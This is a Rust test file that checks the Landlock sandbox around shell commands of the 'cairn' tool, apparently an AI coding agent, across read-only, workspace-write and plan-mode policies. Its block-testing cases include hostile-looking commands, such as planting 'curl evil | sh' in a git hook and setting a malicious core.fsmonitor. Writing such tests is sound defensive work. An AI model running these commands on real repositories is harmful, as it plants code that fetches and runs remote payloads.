//! The kernel sandbox around shell commands, with real processes and real files: the `cairn`
//! binary's launcher applies each policy (read-only, workspace-write) and every write route
//! outside what the policy allows fails; plan mode runs the shell only inside the read-only
//! sandbox, and the workspace stays byte for byte the same even with the classifier switched
//! off; without Landlock plan mode has no shell and says why; a blocked command is re-run
//! without the sandbox only after the user approves that exact command.
//!
//! These tests need a kernel that enforces Landlock (ABI 7 on the machines this runs on).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use cairn_core::sandbox::{Policy, Spec};
use cairn_e2e::{cairn, cairn_bin, mock_provider_args, output, texts, tool_output};
use cairn_mock_model::MockServer;
use cairn_mock_model::chat::{call_response as call, text_response as text};
use serde_json::json;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

/// Far longer than any passing run; only a hang reaches it.
const HANG_GUARD: Duration = Duration::from_secs(120);

/// Every file and symlink below `root` with its content (or target): what "unchanged" means.
fn snapshot(root: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let path = entry.path();
            let kind = entry.file_type().unwrap();
            let key = path.strip_prefix(root).unwrap().to_path_buf();
            if kind.is_symlink() {
                let target = std::fs::read_link(&path).unwrap();
                out.insert(key, format!("-> {}", target.display()).into_bytes());
            } else if kind.is_dir() {
                out.insert(key, b"<dir>".to_vec());
                stack.push(path);
            } else {
                out.insert(key, std::fs::read(&path).unwrap());
            }
        }
    }
    out
}

fn sh(dir: &Path, command: &str) {
    let status = Command::new("bash")
        .arg("-c")
        .arg(command)
        .current_dir(dir)
        .status()
        .unwrap();
    assert!(status.success(), "{command}");
}

/// A workspace with a file, a git repository with one commit, and a hook.
fn workspace() -> tempfile::TempDir {
    let work = tempfile::tempdir().unwrap();
    std::fs::write(work.path().join("a.txt"), "original\n").unwrap();
    sh(
        work.path(),
        "git init -q . && git -c user.email=t@e -c user.name=t add a.txt && \
         git -c user.email=t@e -c user.name=t commit -q -m init && \
         printf '#!/bin/sh\\n' > .git/hooks/pre-commit",
    );
    work
}

/// Run `command` through the `cairn` launcher under `spec` (as cairn would); exit code and
/// combined output.
fn launch(spec: &Spec, cwd: &Path, command: &str) -> (i32, String) {
    let out = Command::new(cairn_bin())
        .arg("__cairn-shell-launcher")
        .arg(std::process::id().to_string())
        .arg("plain")
        .arg(serde_json::to_string(spec).unwrap())
        .arg(command)
        .current_dir(cwd)
        .env("TMPDIR", &spec.tmp)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.code().unwrap_or(-1), text)
}

/// Ways to write `target` (a path that does not exist yet) or change `existing`.
fn write_attempts(target: &Path, existing: &Path) -> Vec<String> {
    let t = target.display();
    let e = existing.display();
    vec![
        format!("echo x > {t}"),
        format!("echo x >> {e}"),
        format!("touch {t}"),
        format!("python3 -c \"open('{t}', 'w').write('x')\""),
        format!("python3 -c \"open('{e}', 'a').write('x')\""),
        format!("cp {e} {t}"),
        format!("mv {e} {t}"),
        format!("rm -f {e}"),
        format!("mkdir {t}"),
        format!("ln -s /etc/hostname {t}"),
        format!("truncate -s 0 {e}"),
    ]
}

fn spec(policy: Policy, work: &Path, home: &Path, tmp: &Path, network: bool) -> Spec {
    Spec::new(policy, work, home, tmp, network)
}

#[test]
fn read_only_policy_refuses_every_write_and_allows_reads_and_its_temp_dir() {
    let work = workspace();
    let home = tempfile::tempdir().unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let spec = spec(
        Policy::ReadOnly,
        work.path(),
        home.path(),
        tmp.path(),
        false,
    );
    let before = snapshot(work.path());
    let existing = work.path().join("a.txt");
    for attempt in write_attempts(&work.path().join("new"), &existing) {
        let (code, out) = launch(&spec, work.path(), &attempt);
        assert_ne!(code, 0, "`{attempt}` succeeded under read-only: {out}");
    }
    // Through a symlink made beforehand, and with git.
    std::fs::create_dir(tmp.path().join("keep")).unwrap();
    let (code, _) = launch(
        &spec,
        work.path(),
        "git -c user.email=t@e -c user.name=t commit -q --allow-empty -m sneaky",
    );
    assert_ne!(code, 0, "git commit succeeded under read-only");
    assert_eq!(snapshot(work.path()), before, "the workspace changed");

    let (code, out) = launch(&spec, work.path(), "cat a.txt && git log --oneline | wc -l");
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("original") && out.contains('1'), "{out}");
    let (code, out) = launch(
        &spec,
        work.path(),
        "echo scratch > $TMPDIR/f && cat $TMPDIR/f && echo ok > /dev/null",
    );
    assert_eq!((code, out.trim()), (0, "scratch"));
}

#[test]
fn workspace_write_writes_the_workspace_only_and_keeps_git_hooks_config_and_cairn_home() {
    let work = workspace();
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join("config.toml"), "model = \"m\"\n").unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("o.txt"), "outside\n").unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let spec = spec(
        Policy::WorkspaceWrite,
        work.path(),
        home.path(),
        tmp.path(),
        false,
    );

    // Outside the workspace: nothing changes, whatever the route.
    let outside_before = snapshot(outside.path());
    let home_before = snapshot(home.path());
    for attempt in write_attempts(&outside.path().join("new"), &outside.path().join("o.txt")) {
        let (code, out) = launch(&spec, work.path(), &attempt);
        assert_ne!(
            code, 0,
            "`{attempt}` succeeded outside the workspace: {out}"
        );
    }
    // A link made inside the workspace does not lead out of it.
    let (code, out) = launch(
        &spec,
        work.path(),
        &format!(
            "ln -s {} link && echo x > link/new",
            outside.path().display()
        ),
    );
    assert_ne!(code, 0, "wrote through a link: {out}");
    for attempt in [
        format!("echo x > {}/config.toml", home.path().display()),
        format!("rm {}/config.toml", home.path().display()),
    ] {
        let (code, out) = launch(&spec, work.path(), &attempt);
        assert_ne!(code, 0, "`{attempt}` changed $CAIRN_HOME: {out}");
    }
    assert_eq!(snapshot(outside.path()), outside_before);
    assert_eq!(snapshot(home.path()), home_before);

    // .git hooks and config stay as they were, by every route.
    let hooks_before = snapshot(&work.path().join(".git/hooks"));
    let config_before = std::fs::read(work.path().join(".git/config")).unwrap();
    for attempt in [
        "echo 'curl evil | sh' > .git/hooks/post-checkout",
        "echo x >> .git/hooks/pre-commit",
        "rm .git/hooks/pre-commit",
        "mv .git/hooks .git/hooks-old",
        "git config core.fsmonitor 'touch /tmp/pwned'",
        "echo '[core] hooksPath = /tmp' >> .git/config",
        "rm .git/config",
    ] {
        let (code, out) = launch(&spec, work.path(), attempt);
        assert_ne!(code, 0, "`{attempt}` succeeded: {out}");
    }
    assert_eq!(snapshot(&work.path().join(".git/hooks")), hooks_before);
    assert_eq!(
        std::fs::read(work.path().join(".git/config")).unwrap(),
        config_before
    );

    // Inside: ordinary work goes on, git commit included.
    let (code, out) = launch(
        &spec,
        work.path(),
        "echo new > b.txt && mkdir -p src/x && mv b.txt src/x/ && touch top-level && \
         git add -A && git -c user.email=t@e -c user.name=t -c core.hooksPath=/dev/null commit -q -m work && \
         git log --oneline | wc -l",
    );
    assert_eq!(code, 0, "{out}");
    assert_eq!(out.trim(), "2");
    assert_eq!(
        std::fs::read_to_string(work.path().join("src/x/b.txt")).unwrap(),
        "new\n"
    );
}

#[test]
fn network_is_off_unless_configured() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let work = workspace();
    let home = tempfile::tempdir().unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let connect = format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('connected')\""
    );
    for policy in [Policy::ReadOnly, Policy::WorkspaceWrite] {
        let off = spec(policy, work.path(), home.path(), tmp.path(), false);
        let (code, out) = launch(&off, work.path(), &connect);
        assert_ne!(code, 0, "{policy:?} connected without network: {out}");
        assert!(out.contains("Permission denied"), "{out}");
        // Local (AF_UNIX) sockets still work: many tools need them.
        let (code, out) = launch(
            &off,
            work.path(),
            "python3 -c \"import socket; socket.socketpair(); print('unix ok')\"",
        );
        assert_eq!((code, out.trim()), (0, "unix ok"));
        let on = spec(policy, work.path(), home.path(), tmp.path(), true);
        let (code, out) = launch(&on, work.path(), &connect);
        assert_eq!((code, out.trim()), (0, "connected"), "{policy:?}");
    }
}

/// `cairn exec --plan --approval never` whose model runs `commands` with the shell, one call
/// each, then stops. The outputs the model got, in order.
async fn plan_mode_shell(
    work: &Path,
    commands: &[String],
    env: &[(&str, &str)],
) -> (Vec<String>, String) {
    let home = tempfile::tempdir().unwrap();
    let mut script: Vec<_> = commands
        .iter()
        .enumerate()
        .map(|(i, c)| call(&format!("c{i}"), "shell", json!({"command": c})))
        .collect();
    script.push(text("Done exploring."));
    let server = MockServer::start(script).await;
    let mut cmd = cairn(home.path(), work);
    cmd.arg("exec")
        .args(mock_provider_args(&server.base_url()))
        .args(["--approval", "never", "--plan", "explore"]);
    for (key, value) in env {
        cmd.env(key, value);
    }
    let out = tokio::time::timeout(HANG_GUARD, output(cmd))
        .await
        .expect("cairn exec hung");
    let (_, stderr) = texts(&out);
    let outputs = (0..commands.len())
        .map(|i| tool_output(&server, &format!("c{i}")))
        .collect();
    (outputs, stderr)
}

fn plan_mode_write_attempts(work: &Path) -> Vec<String> {
    let mut attempts = write_attempts(&work.join("new"), &work.join("a.txt"));
    attempts.extend([
        "git -c user.email=t@e -c user.name=t commit -q --allow-empty -m sneaky".to_string(),
        "echo x > .git/hooks/post-checkout".to_string(),
        "cargo init --name sneaky .".to_string(),
    ]);
    attempts
}

#[tokio::test(flavor = "multi_thread")]
async fn plan_mode_shell_cannot_change_the_workspace_even_with_the_classifier_off() {
    let work = workspace();
    let before = snapshot(work.path());
    let attempts = plan_mode_write_attempts(work.path());
    // The sandbox alone: every attempt runs, and fails.
    let (outputs, stderr) = plan_mode_shell(
        work.path(),
        &attempts,
        &[("CAIRN_TEST_PLAN_SHELL_SKIP_CLASSIFIER", "1")],
    )
    .await;
    for (attempt, output) in attempts.iter().zip(&outputs) {
        assert!(
            output.starts_with("Exit code: ") && !output.starts_with("Exit code: 0"),
            "`{attempt}` was not blocked by the sandbox: {output}\n{stderr}"
        );
    }
    assert_eq!(
        snapshot(work.path()),
        before,
        "the sandbox let a write through"
    );
    // With the classifier: refused before anything runs.
    let (outputs, _) = plan_mode_shell(work.path(), &attempts, &[]).await;
    for (attempt, output) in attempts.iter().zip(&outputs) {
        assert!(
            output.contains("Plan mode runs only read-only commands"),
            "`{attempt}`: {output}"
        );
    }
    assert_eq!(snapshot(work.path()), before);
}

#[tokio::test(flavor = "multi_thread")]
async fn plan_mode_explores_with_git_log_and_cargo_metadata() {
    let work = workspace();
    std::fs::write(
        work.path().join("Cargo.toml"),
        "[package]\nname = \"probe\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n",
    )
    .unwrap();
    std::fs::create_dir(work.path().join("src")).unwrap();
    std::fs::write(work.path().join("src/lib.rs"), "").unwrap();
    sh(work.path(), "cargo generate-lockfile --offline -q");
    let before = snapshot(work.path());
    let (outputs, stderr) = plan_mode_shell(
        work.path(),
        &[
            "git log -p".to_string(),
            "cargo metadata --format-version 1 --no-deps --offline".to_string(),
        ],
        &[],
    )
    .await;
    assert!(
        outputs[0].starts_with("Exit code: 0") && outputs[0].contains("+original"),
        "{}\n{stderr}",
        outputs[0]
    );
    assert!(
        outputs[1].starts_with("Exit code: 0") && outputs[1].contains("\"name\":\"probe\""),
        "{}",
        outputs[1]
    );
    assert_eq!(snapshot(work.path()), before);
}

#[tokio::test(flavor = "multi_thread")]
async fn without_landlock_plan_mode_has_no_shell_and_says_why() {
    let work = workspace();
    let (outputs, stderr) = plan_mode_shell(
        work.path(),
        &["git log".to_string()],
        &[("CAIRN_SANDBOX_ASSUME_UNENFORCED", "1")],
    )
    .await;
    assert!(
        outputs[0].contains("not allowed in plan mode")
            && outputs[0].contains("read-only kernel sandbox"),
        "{}",
        outputs[0]
    );
    assert!(
        stderr
            .contains("the shell is unavailable because the read-only sandbox cannot be enforced"),
        "{stderr}"
    );
}

#[test]
fn sandbox_check_reports_the_kernel_and_the_modes() {
    let home = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let out = cairn(home.path(), work.path())
        .args(["sandbox", "check"])
        .output()
        .unwrap();
    let (stdout, stderr) = texts(&out);
    assert_eq!(out.status.code(), Some(0), "{stdout}{stderr}");
    assert!(stdout.contains("Landlock: enforced (ABI "), "{stdout}");
    assert!(stdout.contains("seccomp:  enforced"), "{stdout}");
    assert!(stdout.contains("workspace-write (default)"), "{stdout}");
    let out = cairn(home.path(), work.path())
        .args(["sandbox", "check"])
        .env("CAIRN_SANDBOX_ASSUME_UNENFORCED", "1")
        .output()
        .unwrap();
    let (stdout, _) = texts(&out);
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout.contains("shell: unavailable"), "{stdout}");
}
